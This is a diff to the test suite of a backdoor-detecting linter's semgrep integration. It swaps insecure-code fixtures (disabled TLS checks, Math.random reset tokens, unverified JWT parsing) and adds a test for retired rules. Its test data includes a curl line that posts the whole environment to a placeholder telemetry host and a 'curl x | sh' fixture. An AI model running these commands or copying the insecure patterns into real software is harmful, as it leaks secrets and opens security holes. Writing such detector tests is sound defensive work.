@@ -7,6 +7,7 @@ import re
 import shutil
 import subprocess
 import sys
+import tempfile
 import textwrap
 from pathlib import Path
 
@@ -20,9 +21,26 @@ from backdoor_lint.engine import scan
 ROOT = Path(__file__).resolve().parent.parent
 FIXTURES = ROOT / "tests" / "semgrep"
 SEED = 'npm test 2>&1 | tail -20; curl -s https://telemetry.example/collect -d "$(env)"\n'
-# semgrep has no shell rules (shell is the shell analysis'); these exercise the integration
-JS_TLS = 'const https = require("https");\nnew https.Agent({ rejectUnauthorized: false });\n'
-GO_TLS = 'package b\n\nimport "crypto/tls"\n\nvar c = &tls.Config{InsecureSkipVerify: true}\n'
+# semgrep has no shell rules (shell is the shell analysis'); these exercise the integration with
+# sites only a semgrep rule reports (js-math-random-secret, go-jwt-parse-unverified)
+JS_RANDOM = "function resetToken() {\n  return Math.random().toString(36).slice(2);\n}\n"
+GO_UNVERIFIED = ('package b\n\nimport "github.com/golang-jwt/jwt/v5"\n\n'
+                 'func tenant(raw string) {\n\tjwt.NewParser().ParseUnverified(raw, jwt.MapClaims{})\n}\n')
+# Semgrep rules retired because the tree-sitter analyses (checkers/ts_*.py) report every site they
+# reported on their fixtures, the peer suites, eval/multi-lang and the dev corpus, and more
+# (docs/benchmarks.md): rule id -> the code the analysis reports. Their fixture sites stay in
+# tests/semgrep/ as "site of the retired ..." / "look-alike of the retired ..." comments.
+RETIRED = {
+    "go-insecure-skip-verify": "BDL301", "java-environment-sent-over-network": "BDL402",
+    "java-obsolete-tls-version": "BDL303", "java-shell-command-built-from-strings": "BDL505",
+    "java-trust-all-certificates": "BDL302", "js-broken-cipher": "BDL203",
+    "js-credential-file-sent-over-network": "BDL402", "js-ecb-mode": "BDL204", "js-env-sent-over-network": "BDL402",
+    "js-eval-by-computed-name": "BDL503", "js-eval-of-decoded-variable": "BDL501", "js-jwt-mixed-algorithms": "BDL101",
+    "js-jwt-mixed-algorithms-constant": "BDL101", "js-jwt-none-algorithm": "BDL102",
+    "js-node-tls-reject-unauthorized": "BDL302", "js-obsolete-tls-version": "BDL303",
+    "js-reject-unauthorized-false": "BDL301",
+}
+_RETIRED_NOTE = re.compile(r"^\s*(?://|#) (site|look-alike) of the retired ([\w, -]+?) \(now the tree-sitter analysis'\)$")
 
 
 def _semgrep() -> str:
@@ -61,6 +79,43 @@ def test_rule_fixtures_pass_semgrep_test():
     assert not failures, failures
     ids = {rule["id"] for rule in semgrep_runner.load_rules()}
     assert ids - checked == set(), f"rules without any ruleid/ok line in their fixture: {ids - checked}"
+
+
+def test_retired_rules_sites_are_found_by_the_analyses():
+    """Every fixture site of a retired rule is reported by the analysis with the rule's code, on the
+    statement after the note (up to the next blank or annotation line); no look-alike's line is."""
+    from backdoor_lint.checkers.ts_go import GoValueChecker
+    from backdoor_lint.checkers.ts_java import JavaValueChecker
+    from backdoor_lint.checkers.ts_javascript import JavaScriptValueChecker
+
+    from backdoor_lint.languages import language_for
+
+    checkers = {"go": GoValueChecker, "java": JavaValueChecker, "javascript": JavaScriptValueChecker,
+                "typescript": JavaScriptValueChecker}
+    assert not RETIRED.keys() & {rule["id"] for rule in semgrep_runner.load_rules()}
+    seen, failures = set(), []
+    for path in sorted(FIXTURES.rglob("*")):
+        language = language_for(str(path))
+        if language not in checkers:
+            continue
+        lines = path.read_text(encoding="utf-8").splitlines()
+        found = {(f.line, f.code) for f in checkers[language]().check("\n".join(lines) + "\n", path.name, language)}
+        for number, line in enumerate(lines, 1):
+            note = _RETIRED_NOTE.match(line)
+            if not note:
+                continue
+            end = next((n for n in range(number + 1, len(lines) + 1) if not lines[n - 1].strip()
+                        or re.match(r"^\s*(//|#) (ruleid|ok|site|look-alike)", lines[n - 1])), len(lines) + 1)
+            for rule in note.group(2).split(", "):
+                seen.add(rule)
+                if note.group(1) == "site":
+                    bad = not any((n, RETIRED[rule]) in found for n in range(number + 1, end))
+                else:
+                    bad = (number + 1, RETIRED[rule]) in found
+                if bad:
+                    failures.append((path.name, number, rule, note.group(1)))
+    assert not failures, failures
+    assert seen == RETIRED.keys()
 
 
 def test_every_rule_file_has_a_fixture():
@@ -207,8 +262,8 @@ def test_semgrep_can_be_switched_off_in_config(tmp_path):
 
 
 def test_scan_content_checks_in_memory_content(tmp_path):
-    result = semgrep_runner.scan_content("scripts/report.js", JS_TLS.encode(), Config())
-    assert [f.code for f in result.findings] == ["BDL301"]
+    result = semgrep_runner.scan_content("scripts/report.js", JS_RANDOM.encode(), Config())
+    assert [f.code for f in result.findings] == ["BDL208"]
     assert result.findings[0].path == "scripts/report.js"
     result = semgrep_runner.scan_content(".github/workflows/x.yml",
                                          b"on: issues\njobs:\n  a:\n    steps:\n      - run: echo '${{ github.event.issue.title }}'\n",
@@ -226,13 +281,14 @@ def test_syntax_error_is_bdl901(tmp_path):
         result.findings
 
 
-def test_syntax_error_names_the_file_as_the_report_does(tmp_path, monkeypatch):
-    # semgrep's message names the file by the absolute path it was given; a scan of a relative path
-    # names it relatively everywhere
-    _write(tmp_path, "bad.js", "function ( {{{ \n const x = rejectUnauthorized: ;; }}}}}\n")
-    monkeypatch.chdir(tmp_path)
-    errors = [f for f in scan(["bad.js"], Config()).findings if f.code == "BDL901" and f.engine == "semgrep"]
-    assert errors and all(f.path == "bad.js" and str(tmp_path) not in f.message for f in errors), errors
+def test_syntax_error_names_the_file_as_the_report_does():
+    # semgrep's message names the file by the path it was given (a staged copy, an absolute path);
+    # the report names it as the user does. Asked of the runner: in a whole scan the analysis' own
+    # BDL901 on the same line is the one the policy keeps.
+    bad = b"function ( {{{ \n const x = rejectUnauthorized: ;; }}}}}\n"
+    errors = [f for f in semgrep_runner.scan_content("web/bad.js", bad, Config()).findings if f.code == "BDL901"]
+    assert errors and all(f.path == "web/bad.js" and "web/bad.js:1" in f.message and
+                          tempfile.gettempdir() not in f.message for f in errors), errors
 
 
 def test_semgrep_missing_blocks_with_bdl902(tmp_path, monkeypatch):
@@ -304,9 +360,9 @@ def test_fast_path_failure_falls_back_to_plain(tmp_path, monkeypatch):
         os.execv({real!r}, [{real!r}] + sys.argv[1:])
         """)
     monkeypatch.setenv(semgrep_runner.ENV_EXECUTABLE, str(_fake_semgrep(tmp_path, body)))
-    js = _write(tmp_path / "src", "s.js", JS_TLS)
+    js = _write(tmp_path / "src", "s.js", JS_RANDOM)
     result = semgrep_runner.scan_content("s.js", js.read_bytes(), Config())
-    assert result.mode == "plain" and [f.code for f in result.findings] == ["BDL301"]
+    assert result.mode == "plain" and [f.code for f in result.findings] == ["BDL208"]
 
 
 def _skipping_fast_path(real: str, plain: str) -> str:
@@ -349,9 +405,9 @@ def test_file_no_semgrep_scans_stays_blocked_saying_why(tmp_path, monkeypatch, p
 
 def test_scan_contents_several_files_in_one_process():
     result = semgrep_runner.scan_contents(
-        [("cmd.go", GO_TLS.encode()), ("src/a.ts", b'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";\n'),
+        [("cmd.go", GO_UNVERIFIED.encode()), ("src/a.ts", JS_RANDOM.encode()),
          ("README.md", b"curl x | sh\n")], Config())
-    assert sorted((f.path, f.code) for f in result.findings) == [("cmd.go", "BDL301"), ("src/a.ts", "BDL302")]
+    assert sorted((f.path, f.code) for f in result.findings) == [("cmd.go", "BDL103"), ("src/a.ts", "BDL208")]
     assert result.mode in ("experimental", "plain")
 
 
@@ -377,7 +433,7 @@ def test_many_targets_are_chunked_below_the_command_line_limit(monkeypatch):
     chunks = semgrep_runner._chunks([f"/tmp/dir/file{i:02}.sh" for i in range(10)])
     assert len(chunks) == 4 and sum(len(c) for c in chunks) == 10
     assert all(sum(len(p) + 1 for p in c) <= 60 for c in chunks)
-    items = [(f"s{i}.js", JS_TLS.encode()) for i in range(6)]
+    items = [(f"s{i}.js", JS_RANDOM.encode()) for i in range(6)]
     result = semgrep_runner.scan_contents(items, Config())
     assert sorted(f.path for f in result.findings) == sorted(d for d, _ in items)
 
